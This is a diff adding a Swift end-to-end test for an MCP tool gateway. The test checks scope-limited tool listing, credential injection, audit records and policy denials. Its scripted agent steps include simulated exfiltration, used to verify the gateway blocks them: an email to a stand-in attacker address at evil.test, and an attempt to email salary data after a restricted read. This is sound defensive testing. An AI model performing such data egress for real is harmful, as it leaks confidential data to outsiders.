@@ -1,0 +1,192 @@
+import Foundation
+import LatchTesting
+#if canImport(Glibc)
+import Glibc
+#endif
+import Testing
+
+/// The MCP gateway end to end: the reference MCP client (`mcp` 2.3.0, through
+/// `Tests/Interop/mcp_agent.py`) gets a grant and calls tools through `latch serve`, which
+/// forwards to reference MCP servers (`Tests/Interop/mcp_upstream.py`) over stdio and Streamable
+/// HTTP, injecting credentials from the sealed secret store.
+@Suite("the MCP gateway through latch serve", .serialized)
+struct GatewayInteropTests {
+    static let trustDomain = "gateway.test"
+    static let agent = "spiffe://gateway.test/agents/researcher"
+    static let scope =
+        "tool:files.read_file tool:files.list_files tool:files.crash tool:files.whoami tool:mail.send_email tool:crm.crm_lookup tool:crm.whoami domain:docs domain:sales destination:example.com sensitivity:restricted"
+
+    /// A running gateway: the server, its data directory and configuration, the HTTP upstream.
+    struct Gateway {
+        let directory: TemporaryDirectory
+        let server: ServerProcess
+        let crm: HTTPUpstreamServer
+        let data: String
+        let config: String
+
+        func latch(_ arguments: [String], stdin: String? = nil) throws -> LatchProcess.Result {
+            try LatchProcess.run(arguments + ["--config", self.config, "--data-dir", self.data], in: self.directory, stdin: stdin)
+        }
+
+        /// Runs the scripted agent; one JSON object per step.
+        func agent(_ steps: String, protocol version: String) throws -> [[String: Any]] {
+            let script = try self.directory.write("steps-\(UUID().uuidString).json", steps)
+            let result = try LatchProcess.run(
+                [
+                    InteropPython.script("mcp_agent.py"), "--mcp", self.server.http + "/mcp", "--protocol", version, "--socket", self.server.socket,
+                    "--http", self.server.http, "--agent", GatewayInteropTests.agent, "--scope", GatewayInteropTests.scope, "--script", script,
+                ],
+                in: self.directory, executable: URL(fileURLWithPath: try InteropPython.interpreter()))
+            try #require(result.status == 0, "mcp_agent.py failed: \(result.stderr)\nserver log:\n\(self.server.log)")
+            return result.stdoutLines.compactMap { try? JSONSerialization.jsonObject(with: Data($0.utf8)) as? [String: Any] }
+        }
+
+        /// The task's decision records, newest first.
+        func records(task: String) throws -> [[String: Any]] {
+            let listed = try self.latch(["audit", "list", "--json", "--task", task, "--limit", "1000"])
+            try #require(listed.status == 0, "\(listed.stderr)")
+            return try #require(try JSONSerialization.jsonObject(with: Data(listed.stdout.utf8)) as? [[String: Any]])
+        }
+    }
+
+    /// Starts the HTTP upstream (it wants `Bearer crm-credential-7`), stores the credentials as
+    /// secrets, registers the agent and starts `latch serve` with three upstreams.
+    static func start() async throws -> Gateway {
+        let directory = try TemporaryDirectory()
+        let data = directory.url.appendingPathComponent("data").path
+        let crm = try await HTTPUpstreamServer.start(options: ["--require-token", "CRM_EXPECTED"], environment: ["CRM_EXPECTED": "crm-credential-7"])
+        let python = try InteropPython.interpreter()
+        let upstream = InteropPython.script("mcp_upstream.py")
+        let policies = directory.url.appendingPathComponent("policies").path
+        try FileManager.default.createDirectory(atPath: policies, withIntermediateDirectories: true)
+        try FileManager.default.copyItem(
+            atPath: InteropPython.repoRoot.appendingPathComponent("Examples/gateway/policies.cedar").path, toPath: policies + "/gateway.cedar")
+        // A policy that cannot be evaluated for one tool: list_files has no `limit` argument.
+        try directory.write(
+            "policies/broken.cedar",
+            """
+            @id("broken-for-list-files")
+            forbid (principal, action == Latch::Action::"CallTool", resource == Latch::Tool::"files.list_files")
+            when { context.arguments.limit > 5 };
+            """)
+        try directory.write(
+            "latch.yaml",
+            """
+            trust_domain: \(Self.trustDomain)
+            listen: 127.0.0.1:0
+            policies: \(policies)
+            upstream_refresh_interval: 1s
+            upstreams:
+              - name: files
+                command: \(python)
+                args: [\(upstream), --require-token, FILES_EXPECTED]
+                env: {FILES_EXPECTED: files-credential-3, UPSTREAM_API_KEY: "${secret:files_key}"}
+                labels: {sensitivity: internal, data_domain: docs}
+              - name: mail
+                command: \(python)
+                args: [\(upstream)]
+                tools:
+                  send_email: {sensitivity: public, egress: external, side_effects: write, destination_argument: to}
+              - name: crm
+                url: \(crm.url)
+                headers: {Authorization: "Bearer ${secret:crm_token}"}
+                tools:
+                  crm_lookup: {sensitivity: confidential, data_domain: sales}
+                  whoami: {sensitivity: public}
+            """)
+        let config = directory.url.appendingPathComponent("latch.yaml").path
+        let created = try LatchProcess.run(
+            ["entry", "create", "--config", config, "--data-dir", data, "--spiffe-id", Self.agent, "--selector", "unix:uid:\(getuid())",
+             "--attribute", "team=interop"],
+            in: directory)
+        try #require(created.status == 0, "entry create failed: \(created.stderr)")
+        for (name, value) in [("files_key", "files-credential-3"), ("crm_token", "crm-credential-7")] {
+            // Sealed under the data directory's KEK, which the server then uses too.
+            let set = try LatchProcess.run(["secret", "set", name, "--config", config, "--data-dir", data], in: directory, stdin: value)
+            try #require(set.status == 0, "secret set failed: \(set.stderr)")
+        }
+        let server = try ServerProcess(
+            ["--config", config, "--data-dir", data, "--workload-api-socket", directory.url.appendingPathComponent("run/api.sock").path],
+            in: directory)
+        let gateway = Gateway(directory: directory, server: server, crm: crm, data: data, config: config)
+        try Self.waitForTools(gateway, count: 3)
+        return gateway
+    }
+
+    /// Waits until the server has listed its upstreams (its log names the served tools).
+    static func waitForTools(_ gateway: Gateway, count: Int) throws {
+        let deadline = ContinuousClock.now.advanced(by: .seconds(60))
+        while gateway.server.log.components(separatedBy: "upstream tools listed").count - 1 < count {
+            guard ContinuousClock.now < deadline else { throw ServerProcess.ServerFailed(description: "upstreams not listed:\n\(gateway.server.log)") }
+            Thread.sleep(forTimeInterval: 0.1)
+        }
+    }
+
+    static func reason(_ step: [String: Any]) -> String? {
+        ((step["error"] as? [String: Any])?["data"] as? [String: Any])?["reason"] as? String
+    }
+
+    static func text(_ step: [String: Any]) -> String {
+        (((step["result"] as? [String: Any])?["content"] as? [[String: Any]])?.first?["text"] as? String) ?? ""
+    }
+
+    @Test(
+        "the reference client lists only what its grant allows, calls through Latch with credentials injected, is denied out of scope and after reading restricted data, and every call is recorded",
+        arguments: ["2025-11-25", "2026-07-28"])
+    func endToEnd(_ version: String) async throws {
+        let gateway = try await Self.start()
+        let steps = try gateway.agent(
+            """
+            [{"op": "list_tools"},
+             {"op": "call", "tool": "files.read_file", "arguments": {"path": "public/readme.txt"}},
+             {"op": "call", "tool": "crm.crm_lookup", "arguments": {"customer": "acme"}},
+             {"op": "call", "tool": "crm.whoami", "validate": false},
+             {"op": "call", "tool": "files.whoami", "validate": false},
+             {"op": "call", "tool": "mail.send_email", "arguments": {"to": "bob@example.com", "subject": "pipeline", "body": "summary"}},
+             {"op": "call", "tool": "mail.send_email", "arguments": {"to": "eve@evil.test", "subject": "pipeline", "body": "summary"}},
+             {"op": "call", "tool": "mail.http_fetch", "arguments": {"url": "https://example.com"}},
+             {"op": "call", "tool": "files.list_files"},
+             {"op": "call", "tool": "files.read_file", "arguments": {"path": "secret/salaries.csv"}},
+             {"op": "call", "tool": "mail.send_email", "arguments": {"to": "bob@example.com", "subject": "salaries", "body": "see attached"}},
+             {"op": "complete"},
+             {"op": "list_tools"}]
+            """, protocol: version)
+        try #require(steps.count == 13, "\(steps)")
+        // Listing: the scope's tools that are served and labelled; not mail.http_fetch (unlabelled), not files.echo (not in scope).
+        let listed = Set(steps[0]["result"] as? [String] ?? [])
+        #expect(
+            listed == ["files.read_file", "files.list_files", "files.crash", "files.whoami", "mail.send_email", "crm.crm_lookup", "crm.whoami"],
+            "\(steps[0])")
+        #expect(steps[1]["ok"] as? Bool == true && Self.text(steps[1]).contains("Acme demo data"), "\(steps[1])")
+        #expect(steps[2]["ok"] as? Bool == true && Self.text(steps[2]).contains("gold"), "\(steps[2])")
+        // The upstreams saw the credentials Latch injected (the agent never had them).
+        #expect(Self.text(steps[3]).contains("\"credential\": \"matched\""), "\(steps[3])")
+        #expect(Self.text(steps[4]).contains("\"credential\": \"matched\""), "\(steps[4])")
+        #expect(steps[5]["ok"] as? Bool == true, "\(steps[5])")
+        #expect(Self.reason(steps[6]) == "destination_not_in_grant", "\(steps[6])")
+        #expect(Self.reason(steps[7]) == "unknown_tool", "\(steps[7])")
+        #expect(Self.reason(steps[8]) == "policy_error", "\(steps[8])")
+        #expect(steps[9]["ok"] as? Bool == true && Self.text(steps[9]).contains("alice"), "\(steps[9])")
+        #expect(Self.reason(steps[10]) == "policy_denied", "\(steps[10])")
+        let policies = ((steps[10]["error"] as? [String: Any])?["data"] as? [String: Any])?["policies"] as? [String]
+        #expect(policies == ["no-egress-after-restricted-read"])
+        #expect(steps[11]["ok"] as? Bool == true, "\(steps[11])")
+        #expect(steps[12]["http_status"] as? Int == 401, "a completed task's grant is dead: \(steps[12])")
+
+        // One record per call, allowed or denied, joined to the task; the denials name their reason.
+        let task = try #require((steps[11]["result"] as? [String: Any])?["task_id"] as? String)
+        let records = try gateway.records(task: task)
+        #expect(records.count == 10, "\(records)")
+        let reasons = records.reversed().map { ($0["tool"] as? String ?? "", $0["allowed"] as? Bool ?? false, $0["reason"] as? String ?? "") }
+        #expect(reasons.map(\.0) == ["files.read_file", "crm.crm_lookup", "crm.whoami", "files.whoami", "mail.send_email", "mail.send_email", "mail.http_fetch", "files.list_files", "files.read_file", "mail.send_email"])
+        #expect(reasons.map(\.1) == [true, true, true, true, true, false, false, false, true, false])
+        #expect(records.allSatisfy { ($0["arguments_sha256"] as? String)?.count == 64 && ($0["trace_id"] as? String)?.count == 32 })
+        #expect(records.first { $0["reason"] as? String == "destination_not_in_grant" }?["destination"] as? String == "evil.test")
+
+        #expect(gateway.server.stop() == 0)
+        for secret in ["files-credential-3", "crm-credential-7"] {
+            #expect(!gateway.server.log.contains(secret), "no credential may be logged")
+        }
+        #expect(!gateway.server.log.contains("eyJ"), "no token may be logged")
+    }
+}
